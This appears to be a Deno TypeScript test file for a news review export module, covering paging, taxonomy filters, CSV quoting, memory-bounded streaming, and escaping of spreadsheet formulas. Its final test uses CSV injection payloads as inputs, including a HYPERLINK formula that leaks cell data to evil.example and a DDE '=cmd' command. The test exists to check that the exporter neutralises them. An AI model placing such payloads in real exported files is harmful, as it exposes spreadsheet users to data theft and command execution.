import assert from "node:assert/strict";
import v8 from "node:v8";
import vm from "node:vm";
import type { Db } from "../mod.ts";
import { registerTestModel } from "../../testing/db/review/test_helpers.ts";
import { EXPORT_PAGE_SIZE, exportPages, exportStream, formatPage } from "./export.ts";
import { testDatabases } from "../../testing/db/test_db.ts";

/** `db` with a count of the statements run through it. */
function counting(db: Db): Db & { statements: number } {
  const wrapped = {
    statements: 0,
    kind: db.kind,
    pool: () => db.pool(),
    query<T>(sql: string, params?: unknown[]) {
      wrapped.statements++;
      return db.query<T>(sql, params);
    },
    exec: (sql: string) => db.exec(sql),
    transaction: db.transaction.bind(db),
    close: () => db.close(),
  };
  return wrapped as Db & { statements: number };
}

/**
 * V8's collector, so the test measures memory the export holds on to rather
 * than garbage not yet collected (which depends on the collector's mood).
 */
function collector(): () => void {
  v8.setFlagsFromString("--expose-gc");
  return vm.runInNewContext("gc");
}

/** `n` finished reviews written in a few set-based statements (no per-row round trips). */
async function finishedReviews(db: Db, n: number, bodyChars: number): Promise<void> {
  await registerTestModel(db);
  await db.query(
    `INSERT INTO articles (title, body, source, published_at, content_hash, dedup_key)
     SELECT 'Title "' || i || '"', repeat('abcdefghijklmnopqrstuvwxyz0123456789"quoted",abcdefghijklm ', $2::int / 60) || i, 'wire',
            timestamptz '2024-01-01' + i * interval '1 minute', md5(i::text), 'k' || i
       FROM generate_series(1, $1::int) AS i`,
    [n, bodyChars],
  );
  await db.query(
    `INSERT INTO review_items (article_id, model_version, predicted_label, score, scores, margin,
                               reasons, status, required_labels, label_count, final_label,
                               decided_at)
     SELECT id, 'test-model-v1', 'sport', 0.5, '{"sport": 0.5, "markets": 0.3, "science": 0.2}',
            0.2, '{low_confidence}', 'done', 1, 1, 'sport', now()
       FROM articles`,
  );
  await db.query(
    `INSERT INTO review_labels (item_id, reviewer, action, label)
     SELECT id, 'ann', 'accept', 'sport' FROM review_items`,
  );
}

for (const { name, open } of testDatabases()) {
  Deno.test(`review export (${name})`, async (t) => {
    const { db, reset, close } = await open();
    try {
      await t.step(
        "exportPages() pages by item id and keeps the latest review per article",
        async () => {
          await reset();
          await finishedReviews(db, 5, 40);
          // A newer finished review of article 1 replaces the first.
          await db.query(
            `INSERT INTO review_items (article_id, model_version, predicted_label, score, scores,
                                     margin, reasons, status, required_labels, label_count,
                                     final_flag, decided_at)
           VALUES (1, 'test-model-v1', 'sport', 0.9, '{}', 0.8, '{manual}', 'flagged', 1, 1,
                   'not_news', now() + interval '1 minute')`,
          );
          const pages = [];
          for await (const page of exportPages(db, { pageSize: 2 })) pages.push(page);
          assert.deepEqual(pages.map((p) => p.map((r) => r.itemId)), [[2], [3, 4], [5, 6]]);
          const last = pages[2][1];
          assert.deepEqual([last.articleId, last.status, last.label, last.flagReason], [
            1,
            "flagged",
            null,
            "not_news",
          ]);
          assert.deepEqual(pages[0][0].reviewers, ["ann"]);
        },
      );

      await t.step(
        "exportPages() exports one taxonomy's reviews; another's later review hides nothing",
        async () => {
          await reset();
          await finishedReviews(db, 3, 40);
          // A later finished review of article 1's section, in another taxonomy.
          await db.query(
            `INSERT INTO review_items (article_id, model_version, predicted_label, score, scores,
                                     margin, reasons, status, required_labels, label_count,
                                     final_label, decided_at, taxonomy)
           VALUES (1, 'test-model-v1', 'SPORTS', 0.9, '{}', 0.8, '{manual}', 'done', 1, 1,
                   'SPORTS', now() + interval '1 minute', 'section')`,
          );
          const rows = async (taxonomy?: string) => {
            const out = [];
            for await (const page of exportPages(db, { taxonomy })) out.push(...page);
            return out;
          };
          const topic = await rows();
          assert.deepEqual(topic.map((r) => r.articleId), [1, 2, 3]);
          assert.ok(topic.every((r) => r.taxonomy === "topic"));
          const section = await rows("section");
          assert.deepEqual(section.map((r) => [r.articleId, r.label, r.taxonomy]), [
            [1, "SPORTS", "section"],
          ]);
          assert.deepEqual(await rows("nothing"), []);
        },
      );

      await t.step("CSV quotes fields with commas, quotes and line breaks", () => {
        const row = {
          itemId: 1,
          taxonomy: "topic",
          articleId: 2,
          externalId: null,
          url: null,
          source: "wire",
          language: null,
          publishedAt: "2024-01-01T00:00:00.000Z",
          title: 'He said "hi", then\nleft',
          body: " padded",
          label: "sport",
          status: "done" as const,
          flagReason: null,
          predictedLabel: "sport",
          score: 0.5,
          modelVersion: "v1",
          reasons: ["low_confidence" as const, "audit" as const],
          reviewers: ["ann", "bob"],
          adjudicatedBy: null,
          decidedAt: "2024-01-02T00:00:00.000Z",
        };
        assert.equal(
          formatPage([row], "csv"),
          '1,2,,,wire,,2024-01-01T00:00:00.000Z,"He said ""hi"", then\nleft"," padded",sport,' +
            "done,,sport,0.5,v1,low_confidence;audit,ann;bob,,2024-01-02T00:00:00.000Z,topic\r\n",
        );
        assert.deepEqual(JSON.parse(formatPage([row], "jsonl")), row);
      });

      await t.step("100k rows stream page by page in bounded memory", async () => {
        await reset();
        const n = 100_000;
        await finishedReviews(db, n, 600);
        const counted = counting(db);
        const reader = exportStream(counted, "jsonl").getReader();
        const first = await reader.read();
        assert.ok(first.value && first.value.length > 0);
        // The stream starts after one page is read, not after the whole export.
        assert.equal(counted.statements, 1);
        const gc = collector();
        gc();
        const baseline = Deno.memoryUsage().heapUsed;
        let retained = 0;
        let bytes = first.value.length;
        let chunks = 1;
        let lines = 0;
        const decoder = new TextDecoder();
        const countLines = (chunk: Uint8Array) => {
          const text = decoder.decode(chunk);
          for (let i = text.indexOf("\n"); i !== -1; i = text.indexOf("\n", i + 1)) lines++;
        };
        countLines(first.value);
        while (true) {
          const { done, value } = await reader.read();
          if (done) break;
          chunks++;
          bytes += value.length;
          countLines(value); // the chunk is not kept
          if (chunks % 10 === 0) {
            gc();
            retained = Math.max(retained, Deno.memoryUsage().heapUsed - baseline);
          }
        }
        assert.equal(lines, n);
        assert.equal(chunks, n / EXPORT_PAGE_SIZE);
        assert.equal(
          counted.statements,
          n / EXPORT_PAGE_SIZE + 1,
          "one query per page, plus the empty end",
        );
        assert.ok(bytes > 70_000_000, `only ${bytes} bytes`);
        // What the export holds at any time is a page or two, not the data.
        assert.ok(retained < bytes / 20, `${retained} bytes retained for ${bytes} exported`);
      });
    } finally {
      await close();
    }
  });
}

Deno.test("formatPage() prefixes CSV text that starts like a formula with '; numbers stay numbers", () => {
  const row = {
    itemId: 7,
    taxonomy: "topic",
    articleId: 8,
    externalId: "-2+3",
    url: "@SUM(A1:A9)",
    source: "+wire",
    language: null,
    publishedAt: "2024-01-01T00:00:00.000Z",
    title: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    body: "\t=1+1",
    label: "sport",
    status: "done" as const,
    flagReason: null,
    predictedLabel: "sport",
    score: -0.25,
    modelVersion: "\r=cmd|' /C calc'!A0",
    reasons: ["low_confidence" as const],
    reviewers: ["=ann", "bob"],
    adjudicatedBy: "-carol",
    decidedAt: "2024-01-02T00:00:00.000Z",
  };
  assert.equal(
    formatPage([row], "csv"),
    "7,8,'-2+3,'@SUM(A1:A9),'+wire,,2024-01-01T00:00:00.000Z," +
      '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",\'\t=1+1,sport,done,,' +
      "sport,-0.25,\"'\r=cmd|' /C calc'!A0\",low_confidence,'=ann;bob,'-carol," +
      "2024-01-02T00:00:00.000Z,topic\r\n",
  );
  // Text that only contains those characters further on is left as it is.
  const plain = formatPage([{ ...row, externalId: "x-1", title: "a = b - c", score: -1 }], "csv");
  assert.match(plain, /^7,8,x-1,.*,a = b - c,.*,sport,-1,/);
  // JSON Lines keeps every value as it is.
  assert.deepEqual(JSON.parse(formatPage([row], "jsonl")), row);
});
